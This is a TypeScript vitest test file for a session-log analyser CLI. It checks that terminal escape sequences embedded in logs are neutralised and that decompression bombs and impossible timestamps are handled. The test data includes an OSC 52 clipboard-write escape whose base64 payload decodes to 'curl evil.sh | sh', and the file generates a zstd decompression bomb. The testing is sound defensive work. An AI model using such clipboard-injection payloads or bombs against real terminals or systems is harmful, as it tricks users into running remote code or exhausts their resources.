/**
 * A session log is hostile input. Terminal escape sequences in tool names, error codes, model names and error texts
 * (an OSC 52 clipboard write, a window title, a screen clear, 8-bit C1 CSI, a bidi override) reach the terminal
 * only as visible escapes, `--json` stays valid JSON carrying the same strings with DEL/C1/bidi escaped too, and
 * the HTML page turns markup into text. A decompression bomb (generated here: small zstd, large expanded, calls that
 * never get a result) is skipped at the per-session bound with its reason while the other logs are reported. An
 * event-log line with a time no date can hold (`"at": 1e300`) is skipped and counted, and both formats render.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { afterAll, describe, expect, it } from 'vitest';
import { runAnalyzeCli, type CliIo } from '../src/cli.js';
import { renderHtml } from '../src/format-html.js';
import { formatReport } from '../src/format-text.js';
import type { AnalysisReport } from '../src/index.js';
import { analyzeSessions, OVER_BOUND } from '../src/node.js';
import { visibleJson, visibleText } from '../src/visible-text.js';
import { compress, compressStream, hasZstd, tempDir } from './support.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'; // clipboard := "curl evil.sh | sh"
const TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J\u001b[H0 errors found, all good';
const C1_CSI = '\u009b31m';
const BIDI = '\u202eevil\u202c';
// Every character that must not reach a terminal raw (a newline between lines is the report's own).
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});

const line = (event: object) => JSON.stringify(event);

/** A session whose tool name, error code, model and error text carry escape sequences. */
function hostileSession(): string {
  return [
    { type: 'session', version: 0, id: 'hostile', cwd: '/w' },
    {
      type: 'assistant/message',
      time: 1_790_000_000_000,
      data: { message: { content: [], source: { model: `deepseek${TITLE}${C1_CSI}` } } },
    },
    { type: 'tool/call', time: 1_790_000_000_001, data: { callId: 'c1', name: `read${OSC52}`, arguments: '{}' } },
    {
      type: 'tool/result',
      time: 1_790_000_000_002,
      data: {
        callId: 'c1',
        content: [{ type: 'text', text: `Error: ${CLEAR} ${BIDI}` }],
        isError: true,
        error: { name: 'Error', code: `FS_${CLEAR}` },
      },
    },
  ]
    .map(line)
    .join('\n');
}

function io() {
  const out: string[] = [];
  const err: string[] = [];
  const value: CliIo = {
    stdout: { write: (text: string) => out.push(text) },
    stderr: { write: (text: string) => err.push(text) },
    env: {},
  };
  return { value, stdout: () => out.join(''), stderr: () => err.join('') };
}

describe('control characters from a log', () => {
  it('visibleText shows C0, DEL, C1 and bidi controls as escapes; visibleJson keeps JSON valid', () => {
    expect(visibleText(`a${OSC52}b\n${C1_CSI}\u007f${BIDI}`)).toBe(
      'a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b\\n\\x9b31m\\x7f\\u{202e}evil\\u{202c}',
    );
    const json = visibleJson(JSON.stringify({ text: `${C1_CSI}\u007f${BIDI}${OSC52}` }));
    expect(json).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json)).toEqual({ text: `${C1_CSI}\u007f${BIDI}${OSC52}` });
  });

  it('never reach the terminal raw, in the text report, --json or stderr', async () => {
    const dir = tempDir('hostile');
    dirs.push(dir);
    const sessions = path.join(dir, `sessions${TITLE}`);
    fs.mkdirSync(path.join(sessions, 'a'), { recursive: true });
    fs.writeFileSync(path.join(sessions, 'a', 'session.jsonl'), `${hostileSession()}\n`);

    const text = io();
    expect(await runAnalyzeCli([sessions], text.value)).toBe(0);
    expect(text.stdout()).not.toMatch(RAW_CONTROL);
    // each sequence is there, visibly: the user sees what the log tried
    expect(text.stdout()).toContain('read\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(text.stdout()).toContain('FS_\\x1b[2J\\x1b[H0');
    expect(text.stdout()).toContain('deepseek\\x1b]0;pwned\\x07\\x9b31m');

    const json = io();
    const html = path.join(dir, 'report.html');
    expect(await runAnalyzeCli([sessions, '--json', '--html', html], json.value)).toBe(0);
    expect(json.stdout()).not.toMatch(RAW_CONTROL);
    expect(json.stderr()).not.toMatch(RAW_CONTROL);
    // a message naming a hostile path
    const empty = io();
    fs.mkdirSync(path.join(dir, `empty${OSC52}`));
    expect(await runAnalyzeCli([path.join(dir, `empty${OSC52}`)], empty.value)).toBe(1);
    expect(empty.stderr()).not.toMatch(RAW_CONTROL);
    expect(empty.stderr()).toContain('empty\\x1b]52;c;');
    const report = JSON.parse(json.stdout()) as AnalysisReport;
    expect(report.census.byTool[0]?.key).toBe(`read${OSC52}`);
    expect(report.census.byCode[0]?.key).toBe(`FS_${CLEAR}`);
    expect(report.census.byModel[0]?.key).toBe(`deepseek${TITLE}${C1_CSI}`);
    expect(report.failures[0]?.errorPreview).toContain(BIDI);
  });
});

describe.skipIf(!hasZstd)('a decompression bomb', () => {
  it('is skipped at the per-session bound with its reason; the other logs are reported', async () => {
    const dir = tempDir('bomb');
    dirs.push(dir);
    const sessions = path.join(dir, 'sessions');
    fs.mkdirSync(path.join(sessions, 'bomb'), { recursive: true });
    fs.mkdirSync(path.join(sessions, 'good'), { recursive: true });
    fs.writeFileSync(path.join(sessions, 'good', 'session.jsonl.zstd'), compress(`${hostileSession()}\n`));
    // ~96 MB of distinct calls that never get a result, streamed through the compressor (never held whole)
    const padding = 'x'.repeat(900);
    const calls = 96_000;
    async function* bomb() {
      yield `${line({ type: 'session', version: 0, id: 'bomb', cwd: '/w' })}\n`;
      for (let start = 0; start < calls; start += 1000) {
        let chunk = '';
        for (let index = start; index < start + 1000; index++)
          chunk += `${line({ type: 'tool/call', data: { callId: `call-${index}`, name: 'bash', arguments: `{"command":"echo ${index} ${padding}"}` } })}\n`;
        yield chunk;
      }
    }
    const bombFile = path.join(sessions, 'bomb', 'session.jsonl.zstd');
    await pipeline(Readable.from(bomb()), compressStream(), fs.createWriteStream(bombFile));
    expect(fs.statSync(bombFile).size).toBeLessThan(2 * 1024 * 1024); // small on disk, ~90 MB expanded

    // a byte bound below its expanded size (kept small so the test reads little)
    const bytes = await analyzeSessions({ sessionsDir: sessions, limits: { maxSessionBytes: 16 * 1024 * 1024 } });
    expect(bytes.report.filesAnalysed).toBe(1);
    expect(bytes.report.skipped).toEqual([
      {
        file: path.join('bomb', 'session.jsonl.zstd'),
        reason: expect.stringContaining(`${OVER_BOUND}: expands to more than 16 MiB`),
      },
    ]);
    // the pending-calls bound catches it too, before the byte bound
    const pending = await analyzeSessions({ sessionsDir: sessions, limits: { maxPendingCalls: 5_000 } });
    expect(pending.report.filesAnalysed).toBe(1);
    expect(pending.report.skipped[0]?.reason).toMatch(
      /^over the per-session bound: more than 5,000 calls without a result at once \(line 5002\)/,
    );
    // both formats say so and render
    expect(formatReport(pending.report)).toContain('1 session logs were skipped over the per-session bound');
    expect(renderHtml(pending.report)).toContain('1 session logs were skipped over the per-session bound');

    // the command: --max-session-mb bounds it; exit 0 with a report of the good log
    const run = io();
    expect(await runAnalyzeCli([sessions, '--json', '--max-session-mb', '8'], run.value)).toBe(0);
    const report = JSON.parse(run.stdout()) as AnalysisReport;
    expect(report.filesAnalysed).toBe(1);
    expect(report.skipped[0]?.reason).toContain('expands to more than 8 MiB');
  });
});

describe('an event-log line with a time no date can hold', () => {
  it('is skipped and counted; the text and HTML reports render', async () => {
    const dir = tempDir('bad-time');
    dirs.push(dir);
    const sessions = path.join(dir, 'sessions');
    fs.mkdirSync(path.join(sessions, 'a'), { recursive: true });
    fs.writeFileSync(path.join(sessions, 'a', 'session.jsonl'), `${hostileSession()}\n`);
    const event = { v: 1, tool: 'get-sum', outcome: 'healed-success', harness: 'mcp', ruleIds: ['args.coerce-scalar'] };
    fs.writeFileSync(
      path.join(dir, 'tool-normalizer-events.jsonl'),
      [
        line({ ...event, at: 1e300 }),
        line({ ...event, at: 1_790_000_000_000 }),
        line({ ...event, at: -1e300, harness: undefined, callId: 'c1' }),
        '{"torn": ',
        line({ ...event, at: 1_790_000_000_500 }),
      ].join('\n'),
    );
    const run = io();
    const html = path.join(dir, 'report.html');
    expect(await runAnalyzeCli([sessions, '--html', html], run.value)).toBe(0);
    expect(run.stdout()).toContain('3 unreadable lines of the event log');
    expect(run.stdout()).toContain('2 calls healed (2 then succeeded');
    expect(run.stdout()).toContain('2026-09-21T');
    const page = fs.readFileSync(html, 'utf8');
    expect(page).toContain('3 unreadable lines of the event log');
    expect(page).toContain('2 calls healed (2 then succeeded');
  });
});
